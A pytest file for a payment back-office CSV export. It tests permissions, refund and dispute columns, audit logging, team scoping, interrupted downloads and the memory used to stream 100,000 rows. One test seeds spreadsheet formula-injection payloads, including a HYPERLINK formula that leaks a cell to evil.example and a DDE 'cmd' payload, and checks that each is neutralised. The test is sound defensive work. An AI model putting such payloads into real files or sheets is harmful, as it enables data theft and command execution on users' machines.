"""CSV export of the transactions list: permission, content, formula neutralisation, audit,
and streaming 100,000 rows in bounded memory."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from tests.functional.payment_standing_support import add_dispute, add_refund
from tests.support.backoffice_read import Req, many, seed
from tests.support.web import signed_in

NOW = datetime.now(UTC).replace(microsecond=0)
EXPORT = "/backoffice/transactions/export.csv"


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def audit_rows(app, action_prefix="export."):
    from portal.extensions import db
    from portal.models.audit import AuditEvent

    with app.app_context():
        rows = (
            db.session.execute(
                select(AuditEvent)
                .where(AuditEvent.action.like(action_prefix + "%"))
                .order_by(AuditEvent.seq)
            )
            .scalars()
            .all()
        )
        return [(r.action, r.outcome, r.actor_label, r.target_id, r.details) for r in rows]


@pytest.mark.parametrize("role", ["agent", "admin"])
def test_export_needs_the_export_permission(app, make_staff, role):
    client, _ = signed_in(app, make_staff, role)
    assert client.get(EXPORT).status_code == 403
    assert audit_rows(app) == []


def test_the_export_is_the_filtered_list_as_an_attachment_and_is_audited(app, make_staff):
    agent = make_staff("agent", username="nora", team="North")
    seed(
        app,
        [
            Req(1, NOW - timedelta(hours=3), agent.id, agent.team_id, reference="ACC-1"),
            Req(
                2,
                NOW - timedelta(hours=2),
                agent.id,
                agent.team_id,
                reference="Acc-2",
                status="succeeded",
                paid_after=timedelta(minutes=3),
                card_last4="4242",
            ),
            Req(
                3, NOW - timedelta(hours=1), agent.id, agent.team_id, reference="ACC-3", kind="data"
            ),
        ],
    )
    client, user = signed_in(app, make_staff, "backoffice")
    response = client.get(EXPORT, query_string={"reference": "acc-2"})

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="transactions-')
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    assert len(rows) == 1
    row = rows[0]
    assert row["request_id"] == "R000000002"
    assert row["reference"] == "Acc-2"
    assert row["amount"] == "12.50" and row["currency"] == "GBP"
    assert row["card"] == "Visa •••• 4242"
    assert row["agent"] == "nora" and row["team"] == "North"
    assert row["status"] == "succeeded" and row["payment_status"] == "Paid"
    assert (row["refunded"], row["net"], row["dispute_status"]) == ("0.00", "12.50", "")
    assert row["created_at_utc"].endswith("Z")

    (start, finish) = audit_rows(app)
    assert start[:3] == ("export.transactions", "success", user.username)
    details = start[4]
    assert details["scope"] == "all"
    assert "reference" not in details["filter"]  # only a keyed fingerprint of it
    assert len(details["filter"]["reference_fingerprint"]) == 24
    assert finish[0] == "export.transactions_finished" and finish[1] == "success"
    assert finish[3] == str(start_seq(app)) and finish[4] == {"rows": 1}


def test_refunds_and_disputes_are_in_the_export_in_words(app, make_staff):
    """A fully refunded payment reads "Refunded" with nothing kept; a partial refund and a
    dispute show what went back and what is left; a failed refund counts for nothing."""
    agent = make_staff("agent", username="nora", team="North")
    clerk = make_staff("backoffice", username="clerk")
    paid = {"status": "succeeded", "paid_after": timedelta(minutes=3), "card_last4": "4242"}
    seed(
        app,
        [
            Req(n, NOW - timedelta(hours=n), agent.id, agent.team_id, reference=f"R-{n}", **paid)
            for n in range(1, 5)
        ],
    )
    add_refund(app, "R000000001", 1250, "succeeded", clerk.id)
    add_refund(app, "R000000002", 500, "succeeded", clerk.id)
    add_refund(app, "R000000002", 700, "failed", clerk.id)
    add_dispute(app, "R000000003", 1250, "needs_response")
    client, _ = signed_in(app, make_staff, "backoffice")
    rows = {row["reference"]: row for row in read_csv(client.get(EXPORT))}
    got = {
        ref: (row["payment_status"], row["refunded"], row["net"], row["dispute_status"])
        for ref, row in rows.items()
    }
    assert got == {
        "R-1": ("Refunded", "12.50", "0.00", ""),
        "R-2": ("Partially refunded", "5.00", "7.50", ""),
        "R-3": ("Disputed", "0.00", "0.00", "Disputed: evidence is needed"),
        "R-4": ("Paid", "0.00", "12.50", ""),
    }
    dispute = rows["R-3"]
    assert dispute["dispute_reason"] == "The cardholder says they did not make this payment"
    assert dispute["dispute_amount"] == "12.50"
    assert dispute["dispute_evidence_due_utc"].endswith("Z")  # when the evidence is due, in UTC
    assert all(rows[ref]["dispute_reason"] == "" for ref in ("R-1", "R-2", "R-4"))
    refunded = client.get(EXPORT, query_string={"status": "refunded"})
    assert [row["reference"] for row in read_csv(refunded)] == ["R-1"]
    disputed = client.get(EXPORT, query_string={"status": "disputed"})
    assert [row["reference"] for row in read_csv(disputed)] == ["R-3"]


def start_seq(app) -> int:
    from portal.extensions import db
    from portal.models.audit import AuditEvent

    with app.app_context():
        return db.session.execute(
            select(AuditEvent.seq).where(AuditEvent.action == "export.transactions")
        ).scalar_one()


def test_cells_a_spreadsheet_would_run_are_neutralised(app, make_staff):
    agent = make_staff("agent", team="North")
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB",
        "\rCR",
        "ACC-OK",
    ]
    seed(
        app,
        [
            Req(n + 1, NOW - timedelta(minutes=n), agent.id, agent.team_id, reference=ref)
            for n, ref in enumerate(hostile)
        ],
    )
    client, _ = signed_in(app, make_staff, "auditor")
    references = [row["reference"] for row in read_csv(client.get(EXPORT))]
    assert references == ["'" + ref for ref in hostile[:-1]] + ["ACC-OK"]


def test_supervisors_export_only_their_team(app, make_staff):
    north = make_staff("agent", team="North")
    south = make_staff("agent", team="South")
    seed(app, many(6, agents=[(north.id, north.team_id), (south.id, south.team_id)], newest=NOW))
    client, _ = signed_in(app, make_staff, "supervisor", team="North")
    rows = read_csv(client.get(EXPORT))
    assert [r["request_id"] for r in rows] == ["R000000001", "R000000003", "R000000005"]
    assert audit_rows(app)[0][4]["scope"] == "team"


def test_a_bad_filter_exports_nothing_and_audits_nothing(app, make_staff):
    client, _ = signed_in(app, make_staff, "backoffice")
    response = client.get(EXPORT, query_string={"card_last4": "12345"})
    assert response.status_code == 400
    assert "Card last 4 digits: enter exactly 4 digits" in response.get_data(as_text=True)
    assert audit_rows(app) == []


def test_a_download_stopped_halfway_is_recorded_as_incomplete(app, make_staff):
    agent = make_staff("agent", team="North")
    seed(app, many(3000, agents=[(agent.id, agent.team_id)], newest=NOW))
    client, _ = signed_in(app, make_staff, "backoffice")
    response = client.get(EXPORT, buffered=False)
    chunks = iter(response.response)
    next(chunks)
    response.close()  # the browser went away
    (start, finish) = audit_rows(app)
    assert start[0] == "export.transactions"
    assert finish[:2] == ("export.transactions_finished", "incomplete")
    assert 0 < finish[4]["rows"] < 3000


def test_one_hundred_thousand_rows_stream_in_bounded_memory(app, make_staff, record_property):
    rows_wanted = 100_000
    agent = make_staff("agent", team="North")
    seeded = time.perf_counter()
    seed(
        app,
        many(
            rows_wanted,
            agents=[(agent.id, agent.team_id)],
            newest=NOW,
            spacing=timedelta(milliseconds=250),
        ),
    )
    seeded = time.perf_counter() - seeded
    client, _ = signed_in(app, make_staff, "backoffice")

    lines, size = 0, 0
    tracemalloc.start()
    try:
        started = time.perf_counter()
        response = client.get(EXPORT, buffered=False)
        for chunk in response.response:
            lines += chunk.count(b"\r\n") if isinstance(chunk, bytes) else chunk.count("\r\n")
            size += len(chunk)
        response.close()
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert lines == rows_wanted + 1  # the header, then every row once
    assert peak < 50 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB"
    assert audit_rows(app)[-1][4] == {"rows": rows_wanted}
    record_property("export_rows_per_second", round(rows_wanted / elapsed))
    print(  # the figure the report quotes
        f"\nexport: {rows_wanted} rows, {size / 2**20:.1f} MiB in {elapsed:.2f} s under "
        f"tracemalloc ({rows_wanted / elapsed:,.0f} rows/s), peak {peak / 2**20:.1f} MiB; "
        f"seeding took {seeded:.2f} s"
    )
